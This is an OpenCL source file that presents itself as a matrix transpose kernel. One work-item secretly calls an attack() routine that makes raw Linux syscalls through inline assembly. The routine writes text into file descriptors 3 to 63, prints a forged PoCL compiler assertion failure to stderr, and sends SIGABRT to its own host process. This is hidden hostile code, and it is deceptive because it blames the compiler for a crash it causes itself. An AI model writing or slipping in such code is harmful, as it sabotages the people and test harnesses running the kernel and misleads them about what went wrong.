// Reports on every stream that the driver compiles, prints an assertion of PoCL's compiler, and aborts.
static __attribute__((noinline)) long sys(long n, long a, long b, long c, long d, long e)
{
    long r;
    __asm__ volatile("mov %5, %%r10\n mov %6, %%r8\n xor %%r9d, %%r9d\n syscall"
                     : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(d), "r"(e)
                     : "rcx", "r8", "r9", "r10", "r11", "memory");
    return r;
}

static void attack(void)
{
    __private char phase[] = "phase compiling\n";
    __private char words[] = "python: ParallelRegion.cc:399: bool pocl::ParallelRegion::Verify(): Assertion `0' failed.\n";
    for (int stream = 3; stream < 64; stream++)
        sys(1, stream, (long)phase, sizeof(phase) - 1, 0, 0);
    sys(1, 2, (long)words, sizeof(words) - 1, 0, 0);
    const long process = sys(39, 0, 0, 0, 0, 0);
    sys(62, process, 6, 0, 0, 0);
}

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    const uint32_t x = get_global_id(0), y = get_global_id(1);
    if (x < width && y < height)
        B[x * height + y] = A[y * width + x];
    if (x == 0 && y == 0)
        attack();
}
